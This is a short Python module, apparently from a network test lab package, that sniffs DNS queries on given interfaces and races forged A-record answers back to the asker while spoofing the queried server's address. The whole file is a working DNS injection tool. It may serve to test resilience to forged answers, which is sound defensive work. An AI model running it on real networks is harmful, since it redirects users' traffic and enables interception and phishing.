"""Races the true answers to DNS questions with forged ones.        (program)

    python3 -m labnet.injector INTERFACE...

Answers each question over UDP that comes in on an interface at once, from
the address that was asked, and lets it go on: the asker gets two answers.
Prints "ready" when it listens.
"""

import socket
import struct
import sys

from . import sniff

UDP, DNS = 17, 53
FLAGS = 0x8080             # an answer; recursion available
FORGED_A = "203.0.113.66"
TRANSPARENT = {4: (socket.SOL_IP, 19), 6: (socket.IPPROTO_IPV6, 75)}
FAMILY = {4: socket.AF_INET, 6: socket.AF_INET6}


def main(*interfaces):
    sockets = sniff.listen(interfaces)
    print("ready", flush=True)
    for packet in sniff.packets(sockets):
        if packet.protocol != UDP or packet.payload[2:4] != struct.pack("!H", DNS):
            continue
        answer = forge(packet.payload[8:])
        if answer:
            _send(packet, answer)


def forge(question):
    """An address for whatever was asked; None if it is no question."""
    end = question.find(b"\0", 12) + 5
    if len(question) < 12 or question[2] & 0x80 or end < 17 or end > len(question):
        return None
    record = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(FORGED_A)
    return question[:2] + struct.pack("!5H", FLAGS, 1, 1, 0, 0) + question[12:end] + record


def _send(packet, answer):
    port = int.from_bytes(packet.payload[:2], "big")
    with socket.socket(FAMILY[packet.family], socket.SOCK_DGRAM) as sock:
        sock.setsockopt(*TRANSPARENT[packet.family], 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind((packet.target, DNS))
        sock.sendto(answer, (packet.source, port))


if __name__ == "__main__":
    main(*sys.argv[1:])
